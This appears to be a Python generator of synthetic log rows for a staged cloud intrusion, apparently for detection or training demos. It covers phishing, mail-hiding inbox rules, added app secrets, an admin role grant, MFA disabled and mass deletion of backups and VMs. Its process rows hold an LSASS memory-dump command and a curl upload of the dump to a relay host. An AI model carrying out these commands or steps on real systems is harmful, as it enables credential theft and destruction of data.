"""The intrusion, step by step. Every time is UTC of the fixed days; the last step is more than an hour before the data ends.

A password spray in the evening finds one password and no way past the second factor. The next morning an administrator
types a code into a page that he believes is his own: from then on the intruder is he.
"""

from __future__ import annotations

import zlib
from datetime import UTC, datetime, timedelta
from typing import Final

from tools.demo_campaign.rows import (
    Device,
    Maker,
    Process,
    SignIn,
    audit,
    azure,
    mailbox,
    modified,
    office,
    person_actor,
    process,
    sign_in,
    target,
)
from tools.demo_campaign.tenant import (
    ARCHIVE,
    ARM,
    BROKER,
    CLI,
    DOMAIN,
    EXCHANGE,
    GRAPH,
    HOSTER,
    LURE,
    MAIL_CLIENT,
    PEOPLE,
    PHISH_ADDRESS,
    PLANNER,
    REGISTRATION,
    RELAY,
    RELAY_ADDRESS,
    SHAREPOINT,
    SHOP,
    SPRAY_ADDRESS,
    SQL,
    SUBSCRIPTION,
    VICTIM,
    Person,
    Server,
    guid,
)

EVENING: Final = datetime(2024, 5, 13, 19, 42, 7, tzinfo=UTC)
MORNING: Final = datetime(2024, 5, 14, 8, 52, 17, 441_234, tzinfo=UTC)
SCRIPT: Final = "python-requests/2.31.0"
SESSION: Final = guid("session:intruder")
UNKNOWN: Final = Device(system="Linux", browser="Python Requests 2.31", managed=False)
PHISHED: Final = Device(system="Windows10", browser="Edge 124.0.0", managed=False)


def add_attack(make: Maker) -> None:
    """Adds every row of the intrusion."""
    _spray(make)
    _phish(make)
    _mail(make)
    _directory(make)
    _machine(make, SQL, _after(MORNING, 98.0))
    _machine(make, SHOP, _after(MORNING, 106.3))
    _disk(make)
    _destruction(make)
    _old_account(make)  # last: what is made before it stays as it was


def _after(start: datetime, minutes: float) -> datetime:
    """That long after, with a fraction of a second of its own."""
    at = start + timedelta(minutes=minutes)
    return at.replace(microsecond=zlib.crc32(at.isoformat().encode()) % 1_000_000)


def _spray(make: Maker) -> None:
    """One password for everybody, twice; one account has it, and its owner declines the second factor."""
    at = EVENING
    for turn in range(2):
        for person in PEOPLE:
            result = 50126
            if turn and person.short == "yasmin.haddad":
                result = 50076
            elif turn and person.short in ("noah.lindgren", "olga.morozova"):
                result = 50053
            sign_in(
                make,
                SignIn(
                    at, person, MAIL_CLIENT, EXCHANGE, SPRAY_ADDRESS, HOSTER, UNKNOWN, result, "ropc", agent=SCRIPT,
                    client="Mobile Apps and Desktop clients", factors=result == 50076,
                    policies={"Require MFA for all users": "failure" if result == 50076 else "notApplied"},
                ),
            )  # fmt: skip
            at += timedelta(seconds=make.random.uniform(38, 71))


def _phish(make: Maker) -> None:
    """The code is typed in, the intruder gets the tokens, and uses them from another country."""
    sign_in(
        make,
        SignIn(
            MORNING, VICTIM, BROKER, REGISTRATION, PHISH_ADDRESS, HOSTER, PHISHED, 0, "deviceCode", "high", "atRisk",
            ("unfamiliarFeatures", "anonymizedIPAddress"), SESSION, True, client="Mobile Apps and Desktop clients",
        ),
    )  # fmt: skip
    uses = (
        (1.2, BROKER, GRAPH, PHISH_ADDRESS), (2.5, MAIL_CLIENT, EXCHANGE, PHISH_ADDRESS),
        (5.9, MAIL_CLIENT, EXCHANGE, PHISH_ADDRESS), (14.0, BROKER, GRAPH, PHISH_ADDRESS),
        (21.7, MAIL_CLIENT, SHAREPOINT, PHISH_ADDRESS), (31.2, BROKER, GRAPH, RELAY_ADDRESS),
        (47.8, BROKER, GRAPH, RELAY_ADDRESS), (68.1, CLI, ARM, RELAY_ADDRESS), (96.5, CLI, ARM, RELAY_ADDRESS),
        (127.3, CLI, ARM, RELAY_ADDRESS), (146.0, CLI, ARM, RELAY_ADDRESS),
    )  # fmt: skip
    for minutes, app, resource, address in uses:
        sign_in(
            make,
            SignIn(
                _after(MORNING, minutes), VICTIM, app, resource, address,
                HOSTER if address == PHISH_ADDRESS else RELAY, PHISHED if address == PHISH_ADDRESS else UNKNOWN,
                risk="high" if minutes < 3 else "none", risk_state="atRisk" if minutes < 3 else "none",
                session=SESSION, agent=SCRIPT, client="Mobile Apps and Desktop clients",
            ),
            interactive=False,
        )  # fmt: skip


def _old_account(make: Maker) -> None:
    """A minute before the victim's, an account of the list that has been disabled is tried from the same address."""
    former = Person("Petra", "Lindqvist", "Accountant", 97)
    for minutes in (-4.2, -3.1):
        sign_in(
            make,
            SignIn(
                _after(MORNING, minutes), former, BROKER, REGISTRATION, PHISH_ADDRESS, HOSTER, PHISHED, 50057, "deviceCode",
                client="Mobile Apps and Desktop clients", policies={"Require MFA for all users": "notApplied"},
            ),
        )  # fmt: skip


def _mail(make: Maker) -> None:
    """The mailbox is searched, and warnings are hidden from its owner."""
    who = mailbox(VICTIM)
    office(
        make, _after(MORNING, 6.4), "New-InboxRule", VICTIM, "Exchange", "ExchangeAdmin", **who,
        OfficeObjectId=f"EURPR05A001.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/{DOMAIN}/"
        f"{VICTIM.id}\\..",
        ClientIP=f"{PHISH_ADDRESS}:50722", ResultStatus="True", UserAgent=SCRIPT,
        Parameters=[
            {"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "False"}, {"Name": "Force", "Value": "False"},
            {"Name": "MoveToFolder", "Value": "RSS Feeds"}, {"Name": "MarkAsRead", "Value": "True"},
            {"Name": "Name", "Value": ".."},
            {"Name": "SubjectOrBodyContainsWords", "Value": "security;sign-in;unusual;verify;consent;suspicious;helpdesk"},
            {"Name": "StopProcessingRules", "Value": "True"},
        ],
    )  # fmt: skip
    for index in range(9):
        folder = ("\\Inbox", "\\Sent Items", "\\Archive")[index % 3]
        items = [{"InternetMessageId": f"<{make.id()}@{DOMAIN}>"} for _ in range(4)]
        office(
            make, _after(MORNING, 8 + index * 1.7), "MailItemsAccessed", VICTIM, "Exchange", "50", **who,
            Client_IPAddress=PHISH_ADDRESS, ClientInfoString="Client=REST;;",
            Folders=[{"FolderItems": items, "Id": guid(f"folder:{folder}"), "Path": folder}],
            OperationProperties=[{"Name": "MailAccessType", "Value": "Bind"}, {"Name": "IsThrottled", "Value": "False"}],
        )  # fmt: skip
    for index, name in enumerate(("Network plan 2024.vsdx", "Break-glass accounts.docx", "Azure landing zone.xlsx")):
        office(
            make, _after(MORNING, 22.5 + index), "FileDownloaded", VICTIM, "SharePoint", "SharePointFileOperation",
            ClientIP=PHISH_ADDRESS, UserAgent=SCRIPT, SourceFileName=name, SourceFileExtension=name.rsplit(".", 1)[1],
            SourceRelativeUrl="Shared Documents/Operations", ItemType="File", EventSource="SharePoint",
            Site_Url=f"https://files.{DOMAIN}/sites/it/",
            OfficeObjectId=f"https://files.{DOMAIN}/sites/it/Shared Documents/Operations/{name}",
        )  # fmt: skip


def _directory(make: Maker) -> None:
    """Ways back in: a consented application, a secret of a trusted one, a role, and a policy that is off."""
    lured, archive = guid(f"principal:{LURE.id}"), guid(f"principal:{ARCHIVE.id}")
    phished, relayed = person_actor(VICTIM, PHISH_ADDRESS), person_actor(VICTIM, RELAY_ADDRESS)
    scope = "offline_access Mail.ReadWrite Mail.Send Files.Read.All"
    consent = make.id()
    grant = (
        f"[] => [[Id: {make.id()}, ClientId: {lured}, PrincipalId: {VICTIM.id}, ResourceId: {guid(GRAPH.id)}, "
        f"ConsentType: Principal, Scope: {scope}, CreatedDateTime: , LastModifiedDateTime ]]; "
    )
    audit(
        make, _after(MORNING, 26.1), "Add delegated permission grant", "ApplicationManagement", "Assign", phished,
        [
            target(
                "ServicePrincipal", guid(GRAPH.id), GRAPH.name,
                modified("DelegatedPermissionGrant.Scope", None, f" {scope}"),
                modified("DelegatedPermissionGrant.ConsentType", None, "Principal"),
                modified("ServicePrincipal.ObjectID", None, lured),
            ),
            target("ServicePrincipal", lured, None),
        ],
        agent=SCRIPT, correlation=consent,
    )  # fmt: skip
    audit(
        make, _after(MORNING, 26.12), "Consent to application", "ApplicationManagement", "Assign", phished,
        [
            target(
                "ServicePrincipal", lured, LURE.name,
                modified("ConsentContext.IsAdminConsent", None, "False"),
                modified("ConsentContext.IsAppOnly", None, "False"), modified("ConsentContext.OnBehalfOfAll", None, "False"),
                modified("ConsentAction.Permissions", None, grant), modified("TargetId.ServicePrincipalNames", None, LURE.id),
            )
        ],
        agent=SCRIPT, correlation=consent,
    )  # fmt: skip
    audit(
        make, _after(MORNING, 38.7), "Update application – Certificates and secrets management ", "ApplicationManagement",
        "Update", relayed,
        [
            target(
                "Application", guid(f"application:{ARCHIVE.id}"), ARCHIVE.name,
                modified(
                    "KeyDescription",
                    [f"[KeyIdentifier={guid('key:archive')},KeyType=AsymmetricX509Cert,KeyUsage=Verify,DisplayName=CN=archive]"],
                    [
                        f"[KeyIdentifier={guid('key:archive')},KeyType=AsymmetricX509Cert,KeyUsage=Verify,DisplayName=CN=archive]",
                        f"[KeyIdentifier={guid('key:intruder')},KeyType=Password,KeyUsage=Verify,DisplayName=backup]",
                    ],
                ),
                modified("Included Updated Properties", None, "KeyDescription"),
            )
        ],
        agent=SCRIPT,
    )  # fmt: skip
    first = [f"[KeyIdentifier={guid('key:planner')},KeyType=Password,KeyUsage=Verify,DisplayName=sync]"]
    audit(
        make, _after(MORNING, 40.2), "Add service principal credentials", "ApplicationManagement", "Update", relayed,
        [
            target(
                "ServicePrincipal", guid(f"principal:{PLANNER.id}"), PLANNER.name,
                modified("KeyDescription", [], first), modified("Included Updated Properties", None, "KeyDescription"),
            )
        ],
        agent=SCRIPT,
    )  # fmt: skip
    audit(
        make, _after(MORNING, 44.3), "Add member to role", "RoleManagement", "Assign", relayed,
        [
            target(
                "ServicePrincipal", archive, ARCHIVE.name,
                modified("Role.ObjectID", None, guid("role:global")),
                modified("Role.DisplayName", None, "Global Administrator"),
                modified("Role.TemplateId", None, "62e90394-69f5-4237-9190-012177145e10"),
                modified("Role.WellKnownObjectName", None, "TenantAdmins"),
            )
        ],
        agent=SCRIPT,
    )  # fmt: skip
    policies = (
        (51.9, "Require MFA for administrators", "disabled"),
        (53.4, "Require MFA for all users", "enabledForReportingButNotEnforced"),
    )
    for minutes, name, state in policies:
        policy = {
            "id": guid(f"policy:{name}"), "displayName": name,
            "conditions": {"users": {"includeUsers": ["All"], "excludeUsers": []}, "clientAppTypes": ["all"]},
            "grantControls": {"operator": "OR", "builtInControls": ["mfa"]},
        }  # fmt: skip
        change = modified("ConditionalAccessPolicy", policy | {"state": "enabled"}, policy | {"state": state})
        audit(
            make, _after(MORNING, minutes), "Update conditional access policy", "Policy", "Update", relayed,
            [target("Policy", guid(f"policy:{name}"), name, change)], service="Conditional Access", agent=SCRIPT,
        )  # fmt: skip


def _machine(make: Maker, server: Server, start: datetime) -> None:
    """A command on a server, by the cloud's own means, that takes the credentials in its memory."""
    operation, correlation = "Microsoft.Compute/virtualMachines/runCommand/action", make.id()
    for minutes, status in ((0.0, "Start"), (1.4, "Success")):
        azure(
            make, _after(start, minutes), operation, server.resource, VICTIM, RELAY_ADDRESS, status=status,
            correlation=correlation,
        )  # fmt: skip
    extension = "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\bin\\RunCommandExtension.exe"
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    script = "powershell -ExecutionPolicy Unrestricted -File script0.ps1"
    dump = (
        '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump 712 '
        "C:\\Windows\\Temp\\af.log full"
    )
    upload = (
        f'"C:\\Windows\\System32\\curl.exe" -s -T C:\\Windows\\Temp\\af.log https://{RELAY_ADDRESS}/u/{server.name}'
    )
    steps = (
        (0.6, shell, script, extension, "RunCommandExtension.exe enable"),
        (0.7, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\System32\\whoami.exe\" /all", shell, script),
        (0.8, "C:\\Windows\\System32\\tasklist.exe", "tasklist /fi \"imagename eq lsass.exe\"", shell, script),
        (0.9, "C:\\Windows\\System32\\rundll32.exe", dump, shell, script),
        (1.2, "C:\\Windows\\System32\\curl.exe", upload, shell, script),
    )  # fmt: skip
    for minutes, path, command, parent, parent_command in steps:
        process(make, Process(_after(start, minutes), server, path, command, parent, parent_command))


def _disk(make: Maker) -> None:
    """The data disk leaves by a snapshot and a link to download it."""
    base = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/{SQL.group}/providers/Microsoft.Compute"
    snapshot = f"{base}/snapshots/af-sql01-data-tmp"
    steps = (
        (115.0, "Microsoft.Compute/snapshots/write", snapshot), (118.3, "Microsoft.Compute/snapshots/beginGetAccess/action", snapshot),
    )  # fmt: skip
    for minutes, operation, resource in steps:
        correlation = make.id()
        for later, status in ((0.0, "Start"), (0.6, "Success")):
            azure(
                make, _after(MORNING, minutes + later), operation, resource, VICTIM, RELAY_ADDRESS, status=status,
                correlation=correlation,
            )  # fmt: skip


def _destruction(make: Maker) -> None:
    """What would help to recover goes first, then the machines."""
    finance = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/{SQL.group}/providers"
    shop = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-shop-prod/providers"
    vault = f"{finance}/Microsoft.RecoveryServices/vaults/af-backup"
    item = f"{vault}/backupFabrics/Azure/protectionContainers/iaas-{{0}}/protectedItems/vm-{{0}}"
    deletions = [
        (
            "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete",
            item.format(name),
        )
        for name in ("af-sql01", "af-web01", "af-app01")
    ]
    deletions += [
        ("Microsoft.Compute/snapshots/delete", f"{finance}/Microsoft.Compute/snapshots/{name}")
        for name in ("af-sql01-data-0511", "af-sql01-data-0512", "af-sql01-data-0513", "af-sql01-data-tmp")
    ]
    deletions += [
        ("Microsoft.Storage/storageAccounts/delete", f"{finance}/Microsoft.Storage/storageAccounts/{name}")
        for name in ("alderfinchledger", "alderfinchreports")
    ]
    deletions += [
        ("Microsoft.Compute/virtualMachines/delete", SQL.resource),
        ("Microsoft.Compute/virtualMachines/delete", f"{shop}/Microsoft.Compute/virtualMachines/af-web01"),
        ("Microsoft.Compute/virtualMachines/delete", f"{shop}/Microsoft.Compute/virtualMachines/af-app01"),
        ("Microsoft.Compute/disks/delete", f"{finance}/Microsoft.Compute/disks/af-sql01-data"),
        ("Microsoft.Compute/disks/delete", f"{finance}/Microsoft.Compute/disks/af-sql01-os"),
        ("Microsoft.Sql/servers/databases/delete", f"{shop}/Microsoft.Sql/servers/af-shop/databases/orders"),
        ("Microsoft.KeyVault/vaults/delete", f"{shop}/Microsoft.KeyVault/vaults/af-shop-keys"),
    ]
    for index, (operation, resource) in enumerate(deletions):
        correlation, at = make.id(), _after(MORNING, 147.5 + index * 0.83)
        for later, status in ((0.0, "Start"), (0.4, "Success")):
            azure(
                make, _after(at, later), operation, resource, VICTIM, RELAY_ADDRESS, status=status,
                correlation=correlation,
            )  # fmt: skip
